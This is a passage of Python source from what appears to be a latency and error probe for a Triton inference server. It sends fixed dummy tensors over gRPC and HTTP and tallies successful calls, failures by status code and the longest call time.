            began = time.monotonic()
            status = one()
            took = time.monotonic() - began
            if first:
                first = False
                self._ready.wait(60)
                continue  # the warm-up call is not part of the record
            if status == "ok":
                calls.ok += 1
            else:
                calls.failed[status] += 1
            calls.longest_s = max(calls.longest_s, took)
            self._stop.wait(self.pause_s)

    def _grpc_loop(self, address: str) -> None:
        import numpy as np
        import tritonclient.grpc as tgrpc
        from tritonclient.utils import InferenceServerException

        client = tgrpc.InferenceServerClient(address)
        x = tgrpc.InferInput("x", [1, 64], "FP32")
        x.set_data_from_numpy(np.full((1, 64), 0.5, dtype=np.float32))

        def one() -> str:
            try:
                client.infer(self.model, [x], client_timeout=self.timeout_s)
                return "ok"
            except InferenceServerException as exc:
                return str(exc.status()).removeprefix("StatusCode.")
            except Exception as exc:  # noqa: BLE001 - any other failure counts, by name
                return type(exc).__name__

        try:
            self._loop(self.grpc, one)
        finally:
            client.close()

    def _http_loop(self, url: str) -> None:
        import httpx

        body = (b'{"inputs":[{"name":"x","shape":[1,64],"datatype":"FP32","data":['
                + b",".join([b"0.5"] * 64) + b"]}]}")
        path = f"{url}/v2/models/{self.model}/infer"
        with httpx.Client(timeout=self.timeout_s) as client:
            def one() -> str:
                try:
                    r = client.post(path, content=body,
                                    headers={"content-type": "application/json"})
                    return "ok" if r.status_code == 200 else str(r.status_code)
                except httpx.HTTPError as exc:
                    return type(exc).__name__

            self._loop(self.http, one)
